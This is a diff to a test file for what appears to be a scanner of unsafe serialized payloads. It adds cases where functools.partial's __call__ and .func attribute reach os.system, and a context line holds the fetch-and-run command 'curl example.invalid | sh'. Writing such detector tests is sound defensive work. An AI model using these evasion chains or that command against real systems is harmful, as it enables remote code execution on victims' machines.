@@ -75,6 +75,13 @@ CASES = {
     "numpy-vectorize-each-element": (
         [Call(Call(real("numpy.vectorize"), real("os.system")), ["id"])],
         "runs a shell command `id` on load", ["not called"]),
+    # A partial's bound __call__ and its documented .func attribute reach what it wraps.
+    "partial-bound-call": (
+        [Call(Call(getattr, functools.partial(real("os.system"), "id"), "__call__"))],
+        "runs a shell command `id` on load", ["not called"]),
+    "partial-func-attribute": (
+        [Call(Call(getattr, functools.partial(real("os.system"), "x"), "func"), "id")],
+        "runs a shell command `id` on load", ["not called"]),
     "map-decoy-first-item": (
         [Call(list, Call(map, real("os.system"), ["true", "curl example.invalid | sh"]))],
         "runs a shell command `", []),
